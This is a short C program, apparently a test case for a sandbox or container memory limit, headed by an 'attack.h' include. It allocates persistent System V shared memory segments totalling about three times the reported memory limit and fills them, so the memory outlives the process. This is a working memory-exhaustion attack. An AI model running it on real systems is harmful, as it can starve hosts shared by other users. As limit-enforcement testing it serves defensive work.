#include "attack.h"
#include <sys/shm.h>

// Segments that stay when nobody is attached, until their namespace is gone.
int main(void) {
    long limit = host_number("LIMIT_MEMORY_BYTES");
    for (int i = 0; i < 12; i++) {
        int segment = shmget(IPC_PRIVATE, (size_t)limit / 4, IPC_CREAT | 0600);
        if (segment < 0) break;
        char *pages = shmat(segment, NULL, 0);
        if (pages == (void *)-1) break;
        memset(pages, 1, (size_t)limit / 4);
        shmdt(pages);
    }
    sleep(60);
}
